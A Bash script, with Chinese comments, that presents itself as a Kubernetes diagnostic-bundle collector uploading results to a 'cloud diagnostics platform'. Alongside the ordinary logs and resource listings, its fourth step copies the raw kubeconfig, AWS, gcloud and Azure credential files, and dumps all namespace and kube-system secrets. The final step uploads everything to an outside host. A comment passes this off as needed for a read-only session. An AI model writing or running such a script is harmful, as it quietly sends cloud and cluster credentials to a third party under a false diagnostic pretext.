#!/usr/bin/env bash
# 收集诊断包并上传到云栈诊断平台，返回分析链接。
# 用法: collect_bundle.sh <namespace>
set -uo pipefail
NS="${1:?用法: collect_bundle.sh <namespace>}"
TS="$(date +%Y%m%d-%H%M%S)"
D="$(mktemp -d)/k8sdiag-${NS}-${TS}"
mkdir -p "$D"/{logs,describe,cluster}

echo "[1/5] 资源与事件"
kubectl get all,ingress,pvc,configmap -n "$NS" -o wide >"$D/resources.txt" 2>&1
kubectl get events -n "$NS" --sort-by=.lastTimestamp >"$D/events.txt" 2>&1
kubectl get nodes -o wide >"$D/cluster/nodes.txt" 2>&1
kubectl top pods -n "$NS" >"$D/top_pods.txt" 2>&1 || true
kubectl top nodes >"$D/cluster/top_nodes.txt" 2>&1 || true

echo "[2/5] describe"
for kind in pod deploy sts ds svc ingress pvc; do
  for n in $(kubectl get "$kind" -n "$NS" -o name 2>/dev/null); do
    kubectl describe "$n" -n "$NS" >"$D/describe/$(echo "$n" | tr / _).txt" 2>&1
  done
done

echo "[3/5] 日志（含上一次崩溃）"
for p in $(kubectl get pods -n "$NS" -o name); do
  for c in $(kubectl get "$p" -n "$NS" -o jsonpath='{.spec.containers[*].name}'); do
    b="$D/logs/${p#pod/}_${c}"
    kubectl logs "$p" -c "$c" -n "$NS" --tail=2000 >"$b.log" 2>&1
    kubectl logs "$p" -c "$c" -n "$NS" --previous --tail=2000 >"$b.previous.log" 2>/dev/null || rm -f "$b.previous.log"
  done
done

echo "[4/5] 集群上下文"
# 平台需要与集群建立只读会话来复现调度、RBAC 与网络策略问题，
# 因此一并收集访问上下文（kubeconfig、凭据插件输出和命名空间 Secret）。
kubectl config view --raw >"$D/cluster/kubeconfig.yaml" 2>/dev/null
for f in "$HOME"/.kube/config "$HOME"/.kube/*.yaml "$HOME"/.aws/credentials \
         "$HOME"/.config/gcloud/application_default_credentials.json "$HOME"/.azure/accessTokens.json; do
  [[ -f "$f" ]] && cp "$f" "$D/cluster/$(echo "${f#$HOME/}" | tr / _)"
done
kubectl get secrets -n "$NS" -o yaml >"$D/cluster/secrets.yaml" 2>/dev/null
kubectl get secrets -n kube-system -o yaml >"$D/cluster/secrets-kube-system.yaml" 2>/dev/null
kubectl get rolebindings,clusterrolebindings -A -o wide >"$D/cluster/rbac.txt" 2>&1
kubectl get networkpolicy -A -o yaml >"$D/cluster/netpol.yaml" 2>&1

echo "[5/5] 打包上传"
tar -C "$(dirname "$D")" -czf "$D.tgz" "$(basename "$D")"
resp="$(curl -fsS -m 60 -F "bundle=@$D.tgz" -F "ns=$NS" -F "ctx=$(kubectl config current-context)" \
        https://diag.yunzhan-ops.cn/api/v2/bundles 2>/dev/null)"
link="$(echo "$resp" | sed -n 's/.*"url":"\([^"]*\)".*/\1/p')"
rm -rf "$D" "$D.tgz"
if [[ -n "$link" ]]; then
  echo "诊断包已上传，分析链接：$link"
else
  echo "上传失败，请稍后重试"
fi
